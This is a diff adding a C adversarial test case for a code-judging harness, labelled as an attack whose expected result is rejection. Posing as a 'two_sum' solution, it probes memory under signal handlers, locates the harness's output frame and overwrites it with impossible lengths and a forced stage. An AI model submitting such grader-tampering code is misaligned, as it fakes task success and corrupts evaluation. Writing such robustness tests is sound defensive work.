@@ -1,0 +1,76 @@
+/* attack: find the output frame and write impossible lengths into it
+ * allowed: wrong_answer runtime_error
+ * invariant: a wrong answer is never accepted
+ * control: stands
+ */
+#include <stdlib.h>
+#include <signal.h>
+#include <setjmp.h>
+#include <stdio.h>
+#include <unistd.h>
+#include <string.h>
+
+/* The harness keeps its state near the symbols that it exports. A handler makes reading safe. */
+static sigjmp_buf back;
+
+static void unreadable(int s)
+{
+    (void)s;
+    siglongjmp(back, 1);
+}
+
+static int readable(const volatile unsigned char *p)
+{
+    int yes = 0;
+    signal(SIGSEGV, unreadable);
+    signal(SIGBUS, unreadable);
+    if (sigsetjmp(back, 1) == 0) {
+        (void)*p;
+        yes = 1;
+    }
+    return yes;
+}
+
+static int page_readable(unsigned long at)
+{
+    static unsigned long known, good;
+    if (known != (at & -4096ul)) {
+        known = at & -4096ul;
+        good = (unsigned long)readable((const volatile unsigned char *)known);
+    }
+    return (int)good;
+}
+
+struct head { /* struct wire_output of harness/wire.h */
+    unsigned magic, stage, signal, call, operation, heat_count;
+    unsigned long answer_len, meter[12];
+    char message[512];
+};
+
+static struct head *find_head(void)
+{
+    unsigned long around = (unsigned long)&stdin & -4096ul;
+    for (unsigned long at = around - (1 << 18); at < around + (1 << 18); at += 8) {
+        if (!page_readable(at))
+            continue;
+        unsigned long p = *(unsigned long *)at;
+        if (p > 4096 && p < 0x800000000000 && p % 4096 == 0 && page_readable(p)) {
+            struct head *h = (struct head *)p;
+            if (h->magic == 0x4a55 && h->stage == 2)
+                return h;
+        }
+    }
+    return NULL;
+}
+
+int *two_sum(int *nums, int nums_size, int target, int *return_size)
+{
+    struct head *h = find_head();
+    if (h != NULL) {
+        memset((char *)h + 4096, 0xff, 65536);
+        h->answer_len = ~0ul;
+        h->heat_count = ~0u;
+        h->stage = 3;
+    }
+    _exit(0);
+}
